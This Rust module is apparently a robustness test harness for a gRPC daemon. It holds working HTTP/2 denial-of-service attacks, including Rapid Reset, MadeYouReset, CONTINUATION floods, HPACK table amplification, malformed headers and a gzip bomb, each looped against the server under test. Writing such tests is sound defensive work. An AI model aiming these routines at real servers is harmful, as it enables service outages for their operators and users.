//! Attacks with frames: what no client sends, or not so often.

use std::io;
use std::time::Duration;

use hsm_tests::http2::{
    ACK, END_HEADERS, END_STREAM, INITIAL_WINDOW_SIZE, Raw, grpc, header_block, integer, kind, literal,
};

use crate::stage::Scene;

pub(crate) const STATUS: &str = "/touchmark.v1.Daemon/Status";
pub(crate) const SIGN: &str = "/touchmark.v1.Signer/Sign";
/// CANCEL (RFC 9113 section 7).
const CANCEL: [u8; 4] = 8_u32.to_be_bytes();
/// The largest frame that a server has to take (RFC 9113 section 4.2).
const FRAME_MAX: usize = 16 * 1024;

/// Odd numbers: the streams of a client (RFC 9113 section 5.1.1).
pub(crate) fn streams() -> impl Iterator<Item = u32> {
    (1..0x7fff_ffff).step_by(2)
}

/// A connection with preface and settings, whose writer does not wait long for a server that reads nothing.
pub(crate) fn open(scene: &Scene, settings: &[(u16, u32)]) -> io::Result<Raw> {
    let raw = Raw::open(&scene.socket, settings)?;
    raw.stream().set_write_timeout(Some(Duration::from_millis(20)))?;
    Ok(raw)
}

/// Does this on one connection after another, as long as the attack goes on. Where the server closes the
/// connection or reads no more, the next one is opened.
fn over_and_over(scene: &Scene, mut attack: impl FnMut(&mut Raw) -> io::Result<()>) {
    while scene.goes_on() {
        drop(open(scene, &[]).and_then(|mut raw| attack(&mut raw)));
    }
}

/// Requests that are given up at once (CVE-2023-44487).
pub(crate) fn rapid_reset(scene: &Scene) {
    over_and_over(scene, |raw| {
        streams().take_while(|_| scene.goes_on()).try_for_each(|stream| {
            raw.request(stream, STATUS)?;
            raw.frame(kind::RST_STREAM, 0, stream, &CANCEL)
        })
    });
}

/// Requests that the server has to give up (CVE-2025-8671): a window that grows by nothing, or past its end, and
/// bytes after the last one.
pub(crate) fn made_you_reset(scene: &Scene) {
    over_and_over(scene, |raw| {
        streams().take_while(|_| scene.goes_on()).try_for_each(|stream| match stream % 3 {
            0 => {
                raw.request(stream, STATUS)?;
                raw.frame(kind::WINDOW_UPDATE, 0, stream, &[0; 4])
            }
            1 => {
                raw.request(stream, STATUS)?;
                raw.frame(kind::WINDOW_UPDATE, 0, stream, &0x7fff_ffff_u32.to_be_bytes())
            }
            _ => {
                raw.call(stream, STATUS, b"")?;
                raw.frame(kind::DATA, END_STREAM, stream, b"more")
            }
        })
    });
}

/// A header block without an end (VU#421644).
pub(crate) fn endless_headers(scene: &Scene) {
    let fragment = literal("x", &"y".repeat(FRAME_MAX - 16));
    over_and_over(scene, |raw| {
        raw.frame(kind::HEADERS, 0, 1, &header_block(STATUS))?;
        while scene.goes_on() {
            raw.frame(kind::CONTINUATION, 0, 1, &fragment)?;
        }
        Ok(())
    });
}

/// Frames with nothing in them (CVE-2019-9518).
pub(crate) fn empty_frames(scene: &Scene) {
    let mut which = 0;
    over_and_over(scene, |raw| {
        which += 1;
        let kind = if which % 2 == 0 { kind::CONTINUATION } else { kind::DATA };
        raw.frame(kind::HEADERS, if which % 2 == 0 { 0 } else { END_HEADERS }, 1, &header_block(SIGN))?;
        while scene.goes_on() {
            raw.frame(kind, 0, 1, b"")?;
        }
        Ok(())
    });
}

/// Questions and settings whose answers nobody reads (CVE-2019-9512, CVE-2019-9515).
pub(crate) fn answers_never_read(scene: &Scene) {
    let mut which = 0;
    over_and_over(scene, |raw| {
        which += 1;
        while scene.goes_on() {
            if which % 2 == 0 {
                raw.frame(kind::PING, 0, 0, b"silence!")?;
            } else {
                let window = [INITIAL_WINDOW_SIZE.to_be_bytes().as_slice(), &[0, 0, 255, 255]].concat();
                raw.frame(kind::SETTINGS, 0, 0, &window)?;
            }
        }
        Ok(())
    });
}

/// More headers than are taken, and a small block that stands for many (RFC 7541 section 7.3): one entry of the
/// dynamic table, named again and again.
pub(crate) fn large_headers(scene: &Scene) {
    let mut which = 0;
    over_and_over(scene, |raw| {
        for stream in streams().take_while(|_| scene.goes_on()) {
            which += 1;
            let mut block = header_block(STATUS);
            if which % 2 == 0 {
                block.extend(literal("x", &"y".repeat(12 * 1024)));
            } else {
                // RFC 7541 section 6.2.1: kept in the table, as its first dynamic entry, which is number 62.
                block.push(0x40);
                block.extend(
                    [integer(0, 7, 1), b"x".to_vec(), integer(0, 7, 3000), vec![b'y'; 3000]].concat(),
                );
                block.extend([0x80 | 62].repeat(8 * 1024));
            }
            raw.frame(kind::HEADERS, END_HEADERS | END_STREAM, stream, &block)?;
        }
        Ok(())
    });
}

/// Strings in a Huffman code that stands for nothing (RFC 7541 section 5.2), and sizes of a table that nobody allowed.
pub(crate) fn broken_headers(scene: &Scene) {
    let mut which = 0;
    over_and_over(scene, |raw| {
        which += 1;
        let block = match which % 3 {
            // Thirty ones are the code EOS, which may not occur.
            0 => [vec![0x00, 0x80 | 4], vec![0xff; 4], vec![0x01, b'y']].concat(),
            // RFC 7541 section 6.3: the table shall have a gigabyte.
            1 => integer(0x20, 5, 1 << 30),
            // An entry that is not in any table.
            _ => integer(0x80, 7, 4000),
        };
        raw.frame(kind::HEADERS, END_HEADERS, 1, &block)?;
        while scene.goes_on() && raw.read()?.is_some() {}
        Ok(())
    });
}

/// Messages that are said to be enormous, or to be so once they are unpacked.
pub(crate) fn large_messages(scene: &Scene) {
    let mut which = 0;
    over_and_over(scene, |raw| {
        for stream in streams().take_while(|_| scene.goes_on()) {
            which += 1;
            let mut block = header_block(STATUS);
            let mut message = grpc(b"");
            if which % 2 == 0 {
                message[1] = 0x40; // a gigabyte
                message.extend([0; 1024]);
            } else {
                block.extend(literal("grpc-encoding", "gzip"));
                message = grpc(&gzipped_zeros());
                message[0] = 1;
            }
            raw.frame(kind::HEADERS, END_HEADERS, stream, &block)?;
            raw.frame(kind::DATA, END_STREAM, stream, &message)?;
            // What they are told is read, so that it is they who have to be refused and not the connection.
            while scene.goes_on() && raw.read()?.is_some_and(|frame| frame.stream != stream) {}
        }
        Ok(())
    });
}

/// 12 MiB in 12 KiB.
fn gzipped_zeros() -> Vec<u8> {
    use std::io::Write as _;
    let mut packed = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    packed.write_all(&vec![0; 12 << 20]).unwrap();
    packed.finish().unwrap()
}

/// A request whose answer may not be sent, on a connection that is alive.
pub(crate) fn unread(scene: &Scene) -> io::Result<Raw> {
    let mut raw = open(scene, &[(INITIAL_WINDOW_SIZE, 0)])?;
    raw.call(1, STATUS, b"")?;
    Ok(raw)
}

/// Answers PINGs like a live client, and asks nothing.
pub(crate) fn answer_pings(raw: &mut Raw) -> io::Result<()> {
    while let Some(frame) = raw.read()? {
        if frame.kind == kind::PING && frame.flags & ACK == 0 {
            raw.frame(kind::PING, ACK, 0, &frame.payload)?;
        }
    }
    Ok(())
}
